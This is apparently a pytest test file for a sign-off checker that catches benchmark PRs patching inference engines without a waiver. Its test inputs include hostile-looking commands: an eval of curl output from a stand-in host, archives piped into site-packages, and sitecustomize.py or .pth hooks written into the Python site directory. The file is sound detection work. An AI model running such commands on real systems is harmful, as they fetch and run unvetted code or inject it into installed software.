"""No engine patches without a waiver (E5+): scripts reached, helpers, launchers, waivers."""

from __future__ import annotations

import pytest
from builders import (
    NEW_ENTRY,
    SCRIPT,
    SCRIPT_PATH,
    add_changed_file,
    add_listing,
    build,
    passing_parts,
    replace_file,
    set_detail,
)

from signoff.judge.checks import engine_patches
from signoff.judge.context import JudgeContext
from signoff.standards import resolve_standard

PR = 2650
WAIVER = f"docs/waiver/{PR}.md"
PATCHING = SCRIPT.replace(
    'hf download "$MODEL"\n',
    'hf download "$MODEL"\ngit -C /sgl-workspace/sglang apply "$(dirname "$0")/fix-mla.patch"\n',
)


def waiver_text(names: str = "dsv4_fp4_b200_vllm_mtp.sh", pr: int = PR) -> str:
    return (
        f"# Inference-engine patch waiver — PR #{pr}\n\n## Config covered\n\n- Script: {names}\n\n"
        "## What is patched\n\nMLA kernel fix.\n\n"
        "## Why the unmodified upstream image cannot run this benchmark\n\nIt crashes.\n\n"
        "## Upstream PR / issue links\n\n- https://github.com/vllm-project/vllm/pull/1\n\n"
        "## Removal plan\n\nDrop it once the next image ships the fix.\n"
    )


def patching_parts(*, waiver: str | None = None, linked: bool = True) -> dict:
    parts = passing_parts()
    add_changed_file(parts, SCRIPT_PATH, PATCHING)
    if waiver is not None:
        add_changed_file(parts, WAIVER, waiver)
        if linked:
            set_detail(parts, f"- Waiver: https://github.com/o/r/blob/main/{WAIVER}")
    return parts


def test_a_script_that_runs_the_image_as_shipped_passes(check):
    result = check(passing_parts(), "engine-patches")
    assert result.status == "PASS" and "no engine patching" in result.reason


def test_no_script_launcher_recipe_or_config_change_is_not_applicable(check):
    parts = passing_parts()
    parts["changed_files"] = [
        {"path": "README.md", "status": "modified", "patch": "@@ -1 +1 @@\n+x"}
    ]
    assert check(parts, "engine-patches").status == "N/A"


def test_a_patch_the_pr_adds_without_a_waiver_fails_naming_line_and_missing_file(check):
    result = check(patching_parts(), "engine-patches")
    assert result.status == "FAIL"
    assert f"{SCRIPT_PATH}:6 applies a patch with git" in result.reason
    assert f"no {WAIVER} added in this PR" in result.reason


def test_a_linked_waiver_added_in_this_pr_covers_its_patch(check):
    result = check(patching_parts(waiver=waiver_text()), "engine-patches")
    assert result.status == "PASS"
    assert f"covered by {WAIVER}, linked in the Additional detail section" in result.reason


def test_a_waiver_that_is_not_linked_in_the_detail_section_fails(check):
    result = check(patching_parts(waiver=waiver_text(), linked=False), "engine-patches")
    assert result.status == "FAIL" and "not linked" in result.reason


def test_a_waiver_that_does_not_name_the_patched_script_fails(check):
    result = check(patching_parts(waiver=waiver_text(names="other.sh")), "engine-patches")
    assert result.status == "FAIL"
    assert "names dsv4_fp4_b200_vllm_mtp.sh" in result.reason


def test_a_waiver_without_a_removal_plan_fails(check):
    text = waiver_text().replace(
        "## Removal plan\n\nDrop it once the next image ships the fix.\n", ""
    )
    result = check(patching_parts(waiver=text), "engine-patches")
    assert result.status == "FAIL" and "lacks the waiver section(s) removal plan" in result.reason


def test_another_prs_waiver_number_does_not_cover_a_patch_this_pr_adds(check):
    parts = patching_parts()
    add_changed_file(parts, "docs/waiver/2508.md", waiver_text(pr=2508))
    set_detail(parts, "- Waiver: docs/waiver/2508.md")
    result = check(parts, "engine-patches")
    assert result.status == "FAIL" and f"no {WAIVER} added in this PR" in result.reason


def existing_patch_parts() -> dict:
    """The PR only changes the config entry; its (unchanged) script already patches."""
    parts = passing_parts()
    parts["changed_files"] = [f for f in parts["changed_files"] if f["path"] != SCRIPT_PATH]
    replace_file(parts, SCRIPT_PATH, "head", PATCHING)
    return parts


def test_pre_existing_patching_needs_the_original_waiver_on_the_default_branch(check):
    parts = existing_patch_parts()
    add_listing(parts, "docs/waiver", "default", [".gitkeep"])
    result = check(parts, "engine-patches")
    assert result.status == "FAIL"
    assert "no waiver on the default branch's docs/waiver/" in result.reason


def test_pre_existing_patching_is_covered_by_the_original_prs_linked_waiver(check):
    parts = existing_patch_parts()
    add_listing(parts, "docs/waiver", "default", [".gitkeep", "2508.md"])
    replace_file(parts, "docs/waiver/2508.md", "default", waiver_text(pr=2508))
    set_detail(parts, "- Original waiver: docs/waiver/2508.md")
    result = check(parts, "engine-patches")
    assert result.status == "PASS" and "covered by docs/waiver/2508.md" in result.reason


def test_an_unlisted_waiver_directory_fails_closed(check):
    result = check(existing_patch_parts(), "engine-patches")
    assert result.status == "FAIL" and "could not be listed" in result.reason


def test_a_patch_hidden_in_a_helper_script_the_benchmark_runs_is_found(check):
    parts = passing_parts()
    script = SCRIPT.replace(
        'hf download "$MODEL"\n', 'hf download "$MODEL"\nbash "$(dirname "$0")/apply_fix.sh"\n'
    )
    add_changed_file(parts, SCRIPT_PATH, script)
    helper = "benchmarks/single_node/fixed_seq_len/apply_fix.sh"
    replace_file(parts, helper, "head", 'cd "$ROOT" && patch -p1 < fix.diff\n')
    result = check(parts, "engine-patches")
    assert result.status == "FAIL" and f"{helper}:1 runs the patch tool" in result.reason


def test_a_helper_script_that_could_not_be_read_fails_closed(check):
    parts = passing_parts()
    script = SCRIPT.replace('hf download "$MODEL"\n', 'source "$(dirname "$0")/env_fix.sh"\n')
    add_changed_file(parts, SCRIPT_PATH, script)
    result = check(parts, "engine-patches")
    assert result.status == "FAIL"
    assert "benchmarks/single_node/fixed_seq_len/env_fix.sh could not be read" in result.reason


def test_an_engine_file_edited_through_a_variable_is_found(check):
    parts = passing_parts()
    script = SCRIPT.replace(
        'hf download "$MODEL"\n',
        "TARGET=/usr/lib/python3/dist-packages/vllm/model_executor/models/deepseek_v4.py\n"
        "sed -i 's/topk = 8/topk = 4/' \\\n  \"$TARGET\"\n",
    )
    add_changed_file(parts, SCRIPT_PATH, script)
    result = check(parts, "engine-patches")
    assert result.status == "FAIL" and "rewrites installed engine files" in result.reason


def test_an_engine_wheel_installed_over_the_image_is_patching(check):
    parts = passing_parts()
    script = SCRIPT.replace(
        'hf download "$MODEL"\n', "pip install https://example.invalid/vllm-fork.whl\n"
    )
    add_changed_file(parts, SCRIPT_PATH, script)
    result = check(parts, "engine-patches")
    assert result.status == "FAIL" and "installs engine packages" in result.reason


def test_installing_harness_tooling_and_commented_patch_commands_are_allowed(check):
    parts = passing_parts()
    script = SCRIPT.replace(
        'hf download "$MODEL"\n',
        "pip install aiperf==0.3.0\n# git apply fix.patch  (not needed any more)\n",
    )
    add_changed_file(parts, SCRIPT_PATH, script)
    assert check(parts, "engine-patches").status == "PASS"


def test_a_launcher_that_pins_external_recipe_code_fails_as_in_pr_2360(check):
    parts = passing_parts()
    base = 'if [[ "$IS_MULTINODE" == "true" ]]; then\n    cd "$SRT_REPO_DIR"\nfi\n'
    head = base.replace(
        '    cd "$SRT_REPO_DIR"\n',
        '    cd "$SRT_REPO_DIR"\n    git fetch origin refs/pull/282/head\n'
        "    git checkout d94c8505136b1e021ade99f1e7cd3359fc491cb9\n",
    )
    add_changed_file(parts, "runners/launch_b200-dgxc.sh", head, base=base, read=False)
    result = check(parts, "engine-patches")
    assert result.status == "FAIL"
    assert "runners/launch_b200-dgxc.sh:3 fetches an unmerged pull request" in result.reason
    assert "and 1 more" in result.reason


def test_pre_existing_launcher_lines_are_not_held_against_a_pr(check):
    parts = passing_parts()
    base = "git apply srtctl-fix.patch\necho one\n"
    add_changed_file(parts, "runners/launch_b300-nv.sh", base + "echo two\n", base=base)
    assert check(parts, "engine-patches").status == "PASS"


def test_a_launcher_change_without_a_patch_from_github_fails_closed(check):
    parts = passing_parts()
    parts["changed_files"].append({"path": "runners/launch_b200-nb.sh", "status": "modified"})
    result = check(parts, "engine-patches")
    assert result.status == "FAIL" and "GitHub sent no patch" in result.reason


def test_a_container_setup_script_added_to_a_multi_node_recipe_is_patching(check):
    parts = passing_parts()
    path = "benchmarks/multi_node/srt-slurm-recipes/vllm/dsv4/8k1k/disagg.yaml"
    add_changed_file(parts, path, "name: x\nsetup_script: rebuild-engine.sh\n", read=False)
    result = check(parts, "engine-patches")
    assert result.status == "FAIL" and f"{path}:2 runs a setup script" in result.reason


RECIPE = "benchmarks/multi_node/srt-slurm-recipes/vllm/dsv4/8k1k/disagg.yaml"


@pytest.mark.parametrize(
    ("setting", "added"),
    [
        (
            "    PYTHONPATH: /infmax-workspace/benchmarks/multi_node/pp",
            "benchmarks/multi_node/pp/x.py",
        ),
        (
            '    HF_HUB_CACHE: "/workspace/benchmarks/multi_node/hub"',
            "benchmarks/multi_node/hub/m/c.json",
        ),
        ("    TRITON_PTXAS_PATH: /infmax-workspace/tools/ptxas", "tools/ptxas"),
        ("    - LD_PRELOAD=/infmax-workspace/tools/x.so", "tools/x.so"),
    ],
)
def test_a_recipe_environment_naming_a_file_the_pr_writes_is_patching_unread(check, setting, added):
    """srt-slurm recipes set their workers' variables (`aggregated_environment:`): each added
    `KEY: VALUE` is read as the same assignment in a script."""
    parts = passing_parts()
    text = f"name: x\nbackend:\n  decode_environment:\n{setting}\n"
    add_changed_file(parts, RECIPE, text, read=False)
    add_changed_file(parts, added, "x = 1\n")
    result = check(parts, "engine-patches")
    assert result.status == "FAIL", result.reason
    assert f"{RECIPE}:4 sets" in result.reason and added in result.reason


@pytest.mark.parametrize(
    "command",
    ["bash /infmax-workspace/tools/bench.sh", "python3 /infmax-workspace/tools/bench.py --port 1"],
)
def test_a_recipe_command_running_a_file_the_pr_adds_is_patching_unread(check, command):
    """A custom benchmark's `command:` runs in the job: a file of the PR's it runs is unread."""
    parts = passing_parts()
    text = f"name: x\nbenchmark:\n  type: custom\n  command: {command}\n"
    add_changed_file(parts, RECIPE, text, read=False)
    added = command.split()[1].removeprefix("/infmax-workspace/")
    add_changed_file(parts, added, "git -C /usr/local/lib/python3.12/dist-packages apply p\n")
    result = check(parts, "engine-patches")
    assert result.status == "FAIL", result.reason
    assert f"{RECIPE}:4 runs `{command}`, which this PR adds (`{added}`)" in result.reason


@pytest.mark.parametrize(
    "block",
    [
        "  command: |\n    set -e\n    bash /infmax-workspace/tools/bench.sh\n",
        "  command: >-\n    bash\n    /infmax-workspace/tools/bench.sh --port 1\n",
    ],
)
def test_a_recipe_command_written_as_a_block_is_read_line_by_line(check, block):
    parts = passing_parts()
    add_changed_file(parts, RECIPE, f"name: x\nbenchmark:\n  type: custom\n{block}", read=False)
    add_changed_file(
        parts, "tools/bench.sh", "git -C /usr/local/lib/python3.12/dist-packages apply p\n"
    )
    result = check(parts, "engine-patches")
    assert result.status == "FAIL", result.reason
    assert "runs `bash /infmax-workspace/tools/bench.sh" in result.reason
    assert "which this PR adds (`tools/bench.sh`)" in result.reason


def test_a_block_command_ends_where_its_indentation_does(check):
    parts = passing_parts()
    text = "name: x\nbenchmark:\n  command: |\n    echo ready\n  type: custom\nmodel: m\n"
    add_changed_file(parts, RECIPE, text, read=False)
    add_changed_file(parts, "tools/bench.sh", "git apply p\n")
    assert check(parts, "engine-patches").status == "PASS", check(parts, "engine-patches").reason


def test_a_recipe_command_running_a_benchmark_script_leaves_it_to_that_script(check):
    """`command: bash /infmax-workspace/benchmarks/multi_node/agentic_srt.sh` (105 recipes at
    InferenceX HEAD): a changed benchmark script is read as one, not held against the recipe."""
    parts = passing_parts()
    command = "bash /infmax-workspace/benchmarks/multi_node/agentic_srt.sh"
    text = f"name: x\nbenchmark:\n  type: custom\n  command: {command}\n"
    add_changed_file(parts, RECIPE, text, read=False)
    script = "benchmarks/multi_node/agentic_srt.sh"
    add_changed_file(parts, script, "#!/usr/bin/env bash\necho client\n")
    assert check(parts, "engine-patches").status == "PASS", check(parts, "engine-patches").reason


def test_a_recipe_environment_of_real_settings_is_no_patching(check):
    settings = (
        'HF_HUB_CACHE: "/hf_hub_cache"',
        "INFMAX_CONTAINER_WORKSPACE: /infmax-workspace",
        'SGLANG_DG_CACHE_DIR: "/configs/deepgemm-cache"',
        'DG_JIT_CACHE_DIR: "/tmp/dg-cache-dsv4-gb300-agg-mtp-{job_id}"',
        'NCCL_CUMEM_ENABLE: "1"',
        "PYTHONUNBUFFERED: 1",
        "LD_LIBRARY_PATH: /usr/local/ucx/lib:$LD_LIBRARY_PATH",
    )
    parts = passing_parts()
    text = "name: x\nbackend:\n  aggregated_environment:\n" + "".join(
        f"    {one}\n" for one in settings
    )
    add_changed_file(parts, RECIPE, text, read=False)
    add_changed_file(parts, "benchmarks/multi_node/pp/x.py", "x = 1\n")
    assert check(parts, "engine-patches").status == "PASS", check(parts, "engine-patches").reason


def test_scripts_moved_into_deprecated_directories_are_not_scanned(check):
    parts = passing_parts()
    parts["changed_files"] = [f for f in parts["changed_files"] if f["path"] != SCRIPT_PATH]
    moved = "benchmarks/single_node/fixed_seq_len/deprecated/old_fp8_h100.sh"
    add_changed_file(parts, moved, PATCHING)
    assert check(parts, "engine-patches").status == "PASS"


def test_the_check_asks_gather_for_helpers_then_for_the_default_waivers(policy):
    current = resolve_standard("current", policy)
    parts = passing_parts()
    script = SCRIPT.replace('hf download "$MODEL"\n', 'bash "$(dirname "$0")/apply.sh"\n')
    add_changed_file(parts, SCRIPT_PATH, script)
    ctx = JudgeContext(build(parts), policy, current)
    helper = "benchmarks/single_node/fixed_seq_len/apply.sh"
    assert [(w.kind, w.path, w.role) for w in engine_patches.wants(ctx)] == [
        ("file", helper, "head")
    ]
    replace_file(parts, helper, "head", "git apply x.patch\n")
    ctx = JudgeContext(build(parts), policy, current)
    # the helper is unchanged by the PR: its patching pre-exists, so the default's waivers
    assert [(w.kind, w.path) for w in engine_patches.wants(ctx)] == [("dir", "docs/waiver")]


def test_engine_patches_is_not_judged_before_e5(check, policy):
    assert resolve_standard("E4", policy).slot("engine-patches") is None
    assert resolve_standard("E5", policy).slot("engine-patches").number == 9
    assert NEW_ENTRY  # the builders' config entry stays the scope of every case above


def test_the_shared_benchmark_library_is_judged_on_the_lines_a_pr_adds(check):
    lib = "benchmarks/benchmark_lib.sh"
    base = "run_eval() {\n  cat > \"$dir/sitecustomize.py\" <<'PY'\nimport lm_eval\nPY\n}\n"
    parts = passing_parts()
    add_changed_file(parts, lib, base + "echo ready\n", base=base)
    assert check(parts, "engine-patches").status == "PASS"  # its eval hook was already there
    add_changed_file(parts, lib, base + "git apply /opt/fix.patch\n", base=base)
    result = check(parts, "engine-patches")
    assert (
        result.status == "FAIL" and "benchmark_lib.sh:6 applies a patch with git" in result.reason
    )


# --- what runs: dead code never patches, an undecided patch counts ----------------------------

APPLY = 'git -C /sgl-workspace/sglang apply "$(dirname "$0")/fix-mla.patch"'
DEAD_PATCHES = {
    "false &&": f"false && {APPLY}\n",
    "true ||": f"true || {APPLY}\n",
    "uncalled function": f"apply_fix() {{\n    {APPLY}\n}}\n",
    "if false": f"if false; then\n    {APPLY}\nfi\n",
    "after exit 0": "",
}


def with_line(block: str) -> str:
    return SCRIPT.replace('hf download "$MODEL"\n', f'hf download "$MODEL"\n{block}')


@pytest.mark.parametrize("case", sorted(DEAD_PATCHES))
def test_patching_only_in_dead_code_is_no_patch(check, case):
    parts = passing_parts()
    if case == "after exit 0":
        script = SCRIPT + f"exit 0\n{APPLY}\n"
    else:
        script = with_line(DEAD_PATCHES[case])
    add_changed_file(parts, SCRIPT_PATH, script)
    result = check(parts, "engine-patches")
    assert result.status == "PASS", result.reason
    assert "no engine patching" in result.reason


def test_a_patch_behind_a_condition_that_cannot_be_decided_counts_and_names_it(check):
    parts = passing_parts()
    add_changed_file(
        parts, SCRIPT_PATH, with_line(f"if [ -d /sgl-workspace/sglang ]; then\n    {APPLY}\nfi\n")
    )
    result = check(parts, "engine-patches")
    assert result.status == "FAIL"
    assert f"{SCRIPT_PATH}:7 applies a patch with git" in result.reason
    assert "may run: `[ -d /sgl-workspace/sglang ]` (line 6) could not be decided" in result.reason


def test_a_patch_in_a_function_the_script_calls_is_found(check):
    parts = passing_parts()
    add_changed_file(parts, SCRIPT_PATH, with_line(f"apply_fix() {{\n    {APPLY}\n}}\napply_fix\n"))
    result = check(parts, "engine-patches")
    assert result.status == "FAIL" and f"{SCRIPT_PATH}:7 applies a patch with git" in result.reason


def test_a_patch_in_the_eval_only_arm_of_a_changed_script_counts(check):
    parts = passing_parts()
    block = f'if [ "$EVAL_ONLY" = "true" ]; then\n    {APPLY}\nfi\n'
    add_changed_file(parts, SCRIPT_PATH, with_line(block))
    result = check(parts, "engine-patches")
    assert result.status == "FAIL" and "applies a patch with git" in result.reason


def test_a_redirect_that_writes_sitecustomize_into_the_engine_is_found(check):
    parts = passing_parts()
    block = "echo 'import fix' > /usr/lib/python3/dist-packages/sitecustomize.py\n"
    add_changed_file(parts, SCRIPT_PATH, with_line(block))
    result = check(parts, "engine-patches")
    assert result.status == "FAIL" and f"{SCRIPT_PATH}:6" in result.reason


def test_a_helper_script_called_only_in_dead_code_is_not_read(check, policy):
    parts = passing_parts()
    add_changed_file(
        parts, SCRIPT_PATH, with_line('false && bash "$(dirname "$0")/apply_fix.sh"\n')
    )
    ctx = JudgeContext(build(parts), policy, resolve_standard("current", policy))
    assert list(engine_patches.wants(ctx)) == []
    assert check(parts, "engine-patches").status == "PASS"


def test_a_script_whose_reading_is_incomplete_fails_closed_naming_why(check):
    parts = passing_parts()
    add_changed_file(parts, SCRIPT_PATH, with_line('eval "$(curl -s https://example.invalid/x)"\n'))
    result = check(parts, "engine-patches")
    assert result.status == "FAIL"
    assert "could not be fully read" in result.reason and "eval of text" in result.reason


def test_a_file_sourced_from_a_run_time_path_is_named_and_the_script_is_read_whole(check):
    parts = passing_parts()
    add_changed_file(
        parts, SCRIPT_PATH, with_line(f'source "$WS_PATH/setup_deps.sh"\nfalse && {APPLY}\n')
    )
    result = check(parts, "engine-patches")
    # what the sourced file defines may change what runs: every command of the script counts
    assert result.status == "FAIL" and f"{SCRIPT_PATH}:7 applies a patch with git" in result.reason
    add_changed_file(parts, SCRIPT_PATH, with_line('source "$WS_PATH/setup_deps.sh"\n'))
    result = check(parts, "engine-patches")
    assert result.status == "PASS"
    assert f"not read: `$WS_PATH/setup_deps.sh` (sourced at {SCRIPT_PATH}:6)" in result.reason


def test_a_sourced_helper_next_to_the_script_is_read_whole(check):
    parts = passing_parts()
    add_changed_file(parts, SCRIPT_PATH, with_line('source "$(dirname "$0")/fixes.sh"\n'))
    helper = "benchmarks/single_node/fixed_seq_len/fixes.sh"
    replace_file(parts, helper, "head", f"apply_fix() {{\n    {APPLY}\n}}\n")
    result = check(parts, "engine-patches")
    assert result.status == "FAIL" and f"{helper}:2 applies a patch with git" in result.reason


def test_an_entry_whose_script_cannot_be_found_fails_closed_naming_the_candidates(check):
    parts = passing_parts()
    parts["changed_files"] = [f for f in parts["changed_files"] if f["path"] != SCRIPT_PATH]
    parts["files"] = [f for f in parts["files"] if f["path"] != SCRIPT_PATH]
    result = check(parts, "engine-patches")
    assert result.status == "FAIL"
    assert "could not be read at the pinned head (" in result.reason
    assert SCRIPT_PATH in result.reason and "patching is unverified" in result.reason


def test_a_patch_in_a_heredoc_a_shell_runs_is_found(check):
    parts = passing_parts()
    block = f"bash <<'FIX'\necho patching\n{APPLY}\nFIX\n"
    add_changed_file(parts, SCRIPT_PATH, with_line(block))
    result = check(parts, "engine-patches")
    assert result.status == "FAIL" and f"{SCRIPT_PATH}:8 applies a patch with git" in result.reason
    # the same text given to a command that only stores it is data
    add_changed_file(parts, SCRIPT_PATH, with_line(block.replace("bash <<", "cat > notes.txt <<")))
    assert check(parts, "engine-patches").status == "PASS"


@pytest.mark.parametrize(
    ("command", "named"),
    [
        ("cp fix.py \"$(python3 -c 'import vllm; print(vllm.__path__[0])')/config.py\"\n",
         "rewrites installed engine files"),
        ("cp fix.py \"$(pip show vllm | sed -n 's/^Location: //p')/vllm/config.py\"\n",
         "rewrites installed engine files"),
        ("perl -pi -e 's/a/b/' /usr/local/lib/python3.12/dist-packages/vllm/config.py\n",
         "rewrites installed engine files"),
        ("python3 -c \"import vllm, pathlib; p = pathlib.Path(vllm.__file__).parent / 'config.py'; "
         "p.write_text('')\"\n", "rewrites installed engine files"),
        ("pip install -e ./my-fork\n", "installs engine packages"),
        ("pip install /workspace/my-engine\n", "installs engine packages"),
        ("export PYTHONPATH=/workspace/vllm-fork:$PYTHONPATH\n", "ahead of the installed engine"),
    ],
    ids=["cp-into-path", "pip-show-location", "perl-in-place", "python-c-write",
         "editable-fork", "local-path", "pythonpath"],
)  # fmt: skip
def test_other_ways_of_replacing_engine_code_are_patching(check, command, named):
    parts = passing_parts()
    add_changed_file(parts, SCRIPT_PATH, SCRIPT.replace('hf download "$MODEL"\n', command))
    result = check(parts, "engine-patches")
    assert result.status == "FAIL" and named in result.reason


def test_installing_a_checkout_in_place_is_left_to_the_launchers_srtctl_form(check):
    parts = passing_parts()
    add_changed_file(
        parts, SCRIPT_PATH, SCRIPT.replace('hf download "$MODEL"\n', "uv pip install -e .\n")
    )
    assert check(parts, "engine-patches").status == "PASS"


CLIENT_SHIM = """python3 - <<'PYEOF'
import vllm.benchmarks.serve as S

def apply(mod, old, new):
    with open(mod.__file__) as fh:
        src = fh.read()
    with open(mod.__file__, "w") as fh:
        fh.write(src.replace(old, new, 1))

apply(S, '"--extra-body",', '"--chat-template-kwargs", "--extra-body",')
PYEOF
"""


def test_an_inline_program_rewriting_only_the_engines_benchmark_client_is_harness_tooling(check):
    # vLLM's load generator ships in the engine's package (vllm.benchmarks): editing it is
    # client tooling, which the engine-patch rule allows (#2352, #2368)
    parts = passing_parts()
    add_changed_file(parts, SCRIPT_PATH, with_line(CLIENT_SHIM))
    result = check(parts, "engine-patches")
    assert result.status == "PASS", result.reason


def test_the_same_program_rewriting_a_server_module_still_counts(check):
    parts = passing_parts()
    shim = CLIENT_SHIM.replace("vllm.benchmarks.serve", "vllm.v1.core.sched.scheduler")
    add_changed_file(parts, SCRIPT_PATH, with_line(shim))
    result = check(parts, "engine-patches")
    assert result.status == "FAIL" and "rewrites installed engine files inline" in result.reason


def _engine_check(check, command: str):
    """Check 10 on the passing bundle whose script runs `command` where it downloaded the model."""
    parts = passing_parts()
    add_changed_file(parts, SCRIPT_PATH, SCRIPT.replace('hf download "$MODEL"\n', command + "\n"))
    return check(parts, "engine-patches")


# A harness name on a patching command exempts only the words that name it: the command still
# counts when what it installs or writes, read without those words, is the engine's.
@pytest.mark.parametrize(
    "command, named",
    [
        ("pip install vllm==0.0.1 aiperf", "installs engine packages"),
        ("pip install git+https://github.com/x/vllm@fork lm-eval", "installs engine packages"),
        (
            "cp /workspace/lm_eval_runner.py "
            "/usr/local/lib/python3.12/dist-packages/vllm/worker/model_runner.py",
            "rewrites installed engine files",
        ),
        (
            "sed -i 's/a/b/' /usr/local/lib/python3.12/dist-packages/vllm/config.py /tmp/aiperf.log",
            "rewrites installed engine files",
        ),
        (
            'cp "$(dirname "$0")/lm_eval_sitecustomize.py" '
            "/usr/local/lib/python3.12/dist-packages/sitecustomize.py",
            "rewrites installed engine files",
        ),
        (
            "git -C /usr/local/lib/python3.12/dist-packages apply /workspace/aiperf_fix.patch",
            "applies a patch with git",
        ),
        # the harness named only where the word does not name what it is (a ref, a directory
        # on the way, a query)
        ("pip install git+https://github.com/x/vllm@aiperf", "installs engine packages"),
        ("pip install /opt/aiperf/../vllm-fork", "installs engine packages"),
        ("pip install 'https://example.com/vllm-0.1.whl?from=aiperf'", "installs engine packages"),
    ],
)
def test_a_harness_name_on_a_patching_command_does_not_exempt_the_engine_part(
    check, command, named
):
    result = _engine_check(check, command)
    assert result.status == "FAIL" and named in result.reason


# The shapes InferenceX's library installs and hooks its harnesses with (aiperf into its own
# interpreter from a checkout, lm-eval from git at a ref, an lm-eval sitecustomize copied into a
# directory of its own) stay harness tooling.
@pytest.mark.parametrize(
    "command",
    [
        '"$AIPERF_UV_BIN" pip install --python "$AIPERF_PYTHON" -r "$AGENTIC_DIR/req.txt" '
        '-e "$AIPERF_DIR" "datasets>=4.7.0" urllib3',
        "python3 -m pip install -q --no-deps --force-reinstall --break-system-packages "
        '"git+https://github.com/EleutherAI/lm-evaluation-harness.git@${LM_EVAL_REF}"',
        'cp "$(_hooks_dir)/lm_eval_sitecustomize.py" "$hook_dir/sitecustomize.py"',
    ],
)
def test_commands_acting_only_on_harness_tooling_stay_allowed(check, command):
    result = _engine_check(check, command)
    assert result.status == "PASS", result.reason


# An engine's fork installed from an archive, from any version-control URL or with a versioned
# pip is an engine package all the same; an index URL names no package.
@pytest.mark.parametrize(
    "command",
    [
        "pip install https://example.com/dist/serving-fork-0.1.tar.gz",
        "pip install ./serving-fork.zip",
        "pip install git+ssh://git@example.com/x/serving-fork.git",
        "pip3.12 install vllm==0.0.1",
        "python3.12 -m pip install sglang==0.0.1",
    ],
)
def test_an_engine_fork_from_an_archive_a_vcs_url_or_a_versioned_pip_is_patching(check, command):
    result = _engine_check(check, command)
    assert result.status == "FAIL" and "installs engine packages" in result.reason


def test_an_index_url_on_a_harness_install_is_no_engine_package(check):
    """The index names no package (engine-wheel); an untrusted index counts on its own."""
    command = "pip install --extra-index-url https://pypi.example.com/simple datasets pandas"
    reason = _engine_check(check, command).reason
    assert "installs engine packages" not in reason
    assert "installs from a package index" in reason


# Other routes to code the engine's Python loads: a .pth file or anything written into the
# site directory Python reports, a conda-family install, a build installed from a source tree.
@pytest.mark.parametrize(
    "command, named",
    [
        (
            "echo 'import hook' > \"$(python3 -c 'import site; print(site.getsitepackages()[0])')"
            '/zz.pth"',
            "Python code every Python started later runs",  # a start-up file: unread anywhere
        ),
        (
            'cp hook.py "$(python3 -c \'import sysconfig; print(sysconfig.get_paths()["purelib"])\')/"',
            "rewrites installed engine files",
        ),
        ("conda install -y vllm", "installs engine packages"),
        ("micromamba install -y sglang==0.0.1", "installs engine packages"),
        (
            "cd /tmp/serving-fork && python3 setup.py install",
            "installs a package built from source",
        ),
    ],
)
def test_site_directories_conda_and_source_builds_are_patching(check, command, named):
    result = _engine_check(check, command)
    assert result.status == "FAIL" and named in result.reason, result.reason


# What an install installs, when known only at run time, may be an engine's fork.
@pytest.mark.parametrize(
    "command",
    [
        'PKG=$(curl -s https://example.com/name); pip install "$PKG"',
        'pip install $(cat "$(dirname "$0")/pkgs.txt")',
        "echo serving-fork | xargs pip install",
        'PKG=$(curl -s https://example.com/name); pip install "$PKG" aiperf',
        "uv pip install --system ${PKG:-}",
    ],
)
def test_an_install_of_packages_known_only_at_run_time_is_patching(check, command):
    result = _engine_check(check, command)
    assert result.status == "FAIL" and "installs engine packages" in result.reason


# Option values known only at run time name no package: the interpreter, a requirements file
# (read on its own when the PR changes it), an index; nor does an array of options (where
# InferenceX's TileRT setup keeps pip's, #2533).
def test_run_time_option_values_of_an_install_name_no_package(check):
    command = 'pip install --target "$DEST" -r "$REQS" --python "$PY" "${OPTS[@]}" datasets'
    assert _engine_check(check, command).status == "PASS"


# pip run from Python (a list of arguments, pip's own entry point), inline or in a heredoc, installs
# an engine package as a shell `pip install` does; the harness installed that way stays allowed.
@pytest.mark.parametrize(
    "command",
    [
        "python3 -c \"import subprocess; subprocess.run(['pip', 'install', 'vllm==0.0.1'])\"",
        "python3 -c \"from pip._internal.cli.main import main; main(['install', 'sglang==0.0.1'])\"",
        "python3 - <<'PY'\nimport subprocess, sys\n"
        "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'vllm==0.0.1'])\nPY",
    ],
)
def test_pip_run_from_python_to_install_an_engine_package_is_patching(check, command):
    result = _engine_check(check, command)
    assert result.status == "FAIL" and "installs engine packages" in result.reason


def test_pip_run_from_python_to_install_the_harness_is_allowed(check):
    command = "python3 -c \"import subprocess; subprocess.run(['pip', 'install', 'aiperf==0.3'])\""
    assert _engine_check(check, command).status == "PASS"


# Any command that writes files can write them into an engine location: an archive unpacked
# there, a clone made there, a download saved there by any spelling of curl's output option.
@pytest.mark.parametrize(
    "command",
    [
        "curl -sL https://example.com/v.tgz | tar -xz -C /usr/local/lib/python3.12/dist-packages",
        "tar --extract --file /tmp/v.tar --directory /usr/local/lib/python3.12/dist-packages",
        "unzip -o /tmp/v.zip -d /usr/local/lib/python3.12/dist-packages/vllm",
        "git clone https://github.com/x/vllm /usr/local/lib/python3.12/dist-packages/vllm_x",
        "curl -fsSLo /usr/local/lib/python3.12/dist-packages/vllm/config.py https://example.com/c",
        "curl -fsSL --output /usr/local/lib/python3.12/dist-packages/vllm/config.py https://x.io/c",
        "curl -fsSL -o/usr/local/lib/python3.12/dist-packages/vllm/config.py https://x.io/c",
        "git -C /usr/local/lib/python3.12/dist-packages clone https://github.com/x/vllm vllm_x",
        "gh repo clone x/vllm /usr/local/lib/python3.12/dist-packages/vllm_x",
        "aria2c -d /usr/local/lib/python3.12/dist-packages/vllm/v1 -o config.py https://x.io/c",
    ],
    ids=["tar-C", "tar-directory", "unzip-d", "git-clone", "curl-sLo", "curl-output",
         "curl-o-joined", "git-C-clone", "gh-repo-clone", "aria2c"],
)  # fmt: skip
def test_archives_clones_and_downloads_written_into_the_engine_are_patching(check, command):
    result = _engine_check(check, command)
    assert result.status == "FAIL" and "rewrites installed engine files" in result.reason, (
        result.reason
    )


def test_reading_an_engine_location_with_an_archive_tool_is_no_patch(check):
    command = "tar -tzf /tmp/v.tgz | grep dist-packages > /dev/null || true"
    assert _engine_check(check, command).status == "PASS"


@pytest.mark.parametrize(
    "command",
    [
        "pip install -r https://example.com/requirements.txt",
        "pip install --requirement=https://example.com/r.txt aiperf",
        "uv pip install -c https://example.com/constraints.txt datasets",
    ],
)
def test_a_package_list_fetched_at_run_time_is_patching(check, command):
    result = _engine_check(check, command)
    assert result.status == "FAIL" and "installs engine packages" in result.reason, result.reason


# Tools that install a package into an environment of their own and run from it (`uvx`,
# `uv run --with`, `pipx run`): an engine package or a fork named there is installed all the same.
@pytest.mark.parametrize(
    "command",
    [
        "uvx --from git+https://github.com/x/vllm vllm --version",
